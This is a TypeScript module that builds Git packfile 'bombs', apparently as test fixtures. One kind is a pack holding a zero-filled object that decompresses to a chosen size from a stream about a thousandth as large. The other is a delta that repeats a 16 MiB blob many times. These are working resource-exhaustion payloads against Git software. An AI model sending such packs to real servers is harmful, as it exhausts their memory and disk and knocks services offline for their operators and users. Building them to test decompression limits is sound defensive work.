import { createHash } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';

const KIND = { commit: 1, tree: 2, blob: 3, deltaTo: 7 } as const;
const MEBIBYTE = 1024 ** 2;
const BLOCK_BYTES = 16 * MEBIBYTE;

export interface Bomb {
  kind: 'commit' | 'tree' | 'blob';
  mebibytes: number;
  /** What the object begins with; zeros follow. */
  text: string;
}

/** A pack with one object, of which a thousandth goes over the wire. */
export function bombPack({ kind, mebibytes, text }: Bomb): Buffer {
  const bytes = mebibytes * MEBIBYTE;
  return makePack([Buffer.concat([entryHead(KIND[kind], bytes), deflateZeros(Buffer.from(text), bytes)])]);
}

export function bombOid({ kind, mebibytes, text }: Bomb): string {
  const content = Buffer.alloc(mebibytes * MEBIBYTE);
  content.write(text);
  return createHash('sha1').update(`${kind} ${content.length}\0`).update(content).digest('hex');
}

/** A pack with a blob of 16 MiB, and a delta of a few hundred bytes that says to repeat it up to `mebibytes`. */
export function deltaBombPack({ mebibytes }: { mebibytes: number }): Buffer {
  const base = Buffer.alloc(BLOCK_BYTES);
  const baseId = createHash('sha1').update(`blob ${base.length}\0`).update(base).digest();
  // Copies 0xffffff bytes from the start of the base.
  const copy = Buffer.from([0b1111_0000, 0xff, 0xff, 0xff]);
  const count = Math.ceil((mebibytes * MEBIBYTE) / 0xffffff);
  const delta = Buffer.concat([
    varint(base.length),
    varint(count * 0xffffff),
    ...Array.from({ length: count }, () => copy),
  ]);
  return makePack([
    Buffer.concat([entryHead(KIND.blob, base.length), deflateSync(base)]),
    Buffer.concat([entryHead(KIND.deltaTo, delta.length), baseId, deflateSync(delta)]),
  ]);
}

function makePack(entries: readonly Buffer[]): Buffer {
  const head = Buffer.from('PACK\0\0\0\x02\0\0\0\0', 'latin1');
  head.writeUInt32BE(entries.length, 8);
  const pack = Buffer.concat([head, ...entries]);
  return Buffer.concat([pack, createHash('sha1').update(pack).digest()]);
}

/** Kind and size of an object in a pack: four bits of the size first, then seven in each byte. */
function entryHead(kind: number, bytes: number): Buffer {
  const low = (kind << 4) | (bytes % 16);
  const rest = Math.floor(bytes / 16);
  return rest === 0 ? Buffer.from([low]) : Buffer.concat([Buffer.from([low | 0x80]), varint(rest)]);
}

function varint(value: number): Buffer {
  const bytes: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 0x80);
  }
}

/** The zlib stream of a text followed by zeros, put together from one block of zeros that is compressed once. */
function deflateZeros(text: Buffer, bytes: number): Buffer {
  const flush = { finishFlush: constants.Z_FULL_FLUSH };
  const block = deflateRawSync(Buffer.alloc(BLOCK_BYTES), flush);
  const zeros = bytes - text.length;
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(adler32(text, zeros));
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    deflateRawSync(text, flush),
    ...Array.from({ length: Math.floor(zeros / BLOCK_BYTES) }, () => block),
    deflateRawSync(Buffer.alloc(zeros % BLOCK_BYTES)),
    checksum,
  ]);
}

/** Adler-32 of a text and so many zeros, each of which adds the first sum to the second. */
function adler32(text: Buffer, zeros: number): number {
  const modulus = 65_521;
  let [a, b] = [1, 0];
  for (const byte of text) {
    a = (a + byte) % modulus;
    b = (b + a) % modulus;
  }
  return ((b + a * (zeros % modulus)) % modulus) * 65_536 + a;
}
